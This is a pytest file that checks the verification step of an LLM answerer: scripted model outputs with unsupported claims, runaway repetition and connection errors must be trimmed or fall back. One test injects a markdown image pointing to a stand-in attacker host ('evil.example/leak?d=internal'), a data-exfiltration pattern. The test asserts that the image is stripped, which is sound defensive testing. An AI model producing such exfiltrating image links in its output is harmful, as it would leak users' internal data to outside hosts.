"""The LLM answerer's verification, fed model output written to be partly wrong.

A scripted LangChain chat model makes the model's words fixed, so each check has a known answer;
the real model server runs in test_llama_server.py."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage

from assistant.answer import Answer, Delta, Fallback
from assistant.answering.verify import problems
from assistant.llm.answerer import LlmAnswerer
from assistant.llm.prompts import load_prompt
from assistant.llm.support import SupportChecker
from assistant.pipeline import Assistant
from assistant.retrieval.hybrid import Passage
from assistant.settings import PROMPTS_DIR


class Broken(GenericFakeChatModel):
    def _stream(self, *args, **kwargs) -> Iterator:  # type: ignore[override]
        raise ConnectionError("server went away")


@pytest.fixture(scope="module")
def passages(assistant: Assistant) -> list[Passage]:
    return assistant.retrieve("How many MARAC referrals does Sutton aim for?", 5)


@pytest.fixture(scope="module")
def n(passages: list[Passage]) -> int:
    return next(i for i, passage in enumerate(passages, start=1) if "(target 209)" in passage.chunk.text)


def run(assistant: Assistant, passages: list[Passage], model: GenericFakeChatModel, **kwargs) -> list:
    answerer = LlmAnswerer(
        model, load_prompt("answer", PROMPTS_DIR), SupportChecker(assistant.reader().answerer.embedder), **kwargs
    )
    return list(answerer.stream("How many MARAC referrals does Sutton aim for?", passages))


def scripted(text: str) -> GenericFakeChatModel:
    return GenericFakeChatModel(messages=iter([AIMessage(content=text)]))


def test_unsupported_sentences_are_removed_and_never_streamed(
    assistant: Assistant, passages: list[Passage], n: int
) -> None:
    events = run(
        assistant,
        passages,
        scripted(
            f"Sutton aims for 209 MARAC referrals [{n}]. It also wants 5,000 extra police officers [{n}]. "
            f"The number of MARAC referrals has a target of 209 [{n}]."
        ),
    )
    answer = events[-1]
    assert isinstance(answer, Answer) and answer.answerer == "llm"
    assert "5,000" not in answer.text and answer.removed == (f"It also wants 5,000 extra police officers [{n}].",)
    streamed = "".join(event.text for event in events if isinstance(event, Delta))
    assert "5,000" not in streamed and streamed.strip() == answer.text
    assert problems(answer, assistant.index.chunks) == []
    assert [c.n for c in answer.citations] == [n] and "209" in answer.citations[0].quote


def test_too_little_surviving_falls_back(assistant: Assistant, passages: list[Passage], n: int) -> None:
    events = run(
        assistant,
        passages,
        scripted(f"Sutton aims for 209 MARAC referrals [{n}]. It has 7 MARACs [{n}]. Crime fell 90% [{n}]."),
    )
    assert isinstance(events[-1], Fallback) and "1 of 3" in events[-1].reason


def test_not_found_and_errors_fall_back(assistant: Assistant, passages: list[Passage]) -> None:
    assert isinstance(run(assistant, passages, scripted("NOT_FOUND"))[-1], Fallback)
    failed = run(assistant, passages, Broken(messages=iter([])))
    assert isinstance(failed[-1], Fallback) and "ConnectionError" in failed[-1].reason


def test_a_model_that_runs_on_is_cut_off(assistant: Assistant, passages: list[Passage], n: int) -> None:
    looping = " ".join([f"Sutton aims for 209 MARAC referrals [{n}]."] * 200)
    events = run(assistant, passages, scripted(looping), max_chars=400)
    answer = events[-1]
    assert isinstance(answer, Answer) and answer.text.count("209") <= 2


def test_injected_images_and_links_to_other_hosts_never_reach_the_answer(
    assistant: Assistant, passages: list[Passage], n: int
) -> None:
    events = run(
        assistant,
        passages,
        scripted(
            f"Sutton aims for 209 MARAC referrals ![chart](https://evil.example/leak?d=internal) [{n}]. "
            f"The number of MARAC referrals has a target of 209, [details](https://evil.example/x) [{n}]."
        ),
        link_hosts=["sutton.gov.uk"],
    )
    answer = events[-1]
    streamed = "".join(event.text for event in events if isinstance(event, Delta))
    assert isinstance(answer, Answer) and answer.answerer == "llm" and "209" in answer.text
    for text in (answer.text, streamed):
        assert "evil.example" not in text and "![" not in text and "](" not in text
    assert problems(answer, assistant.index.chunks) == []
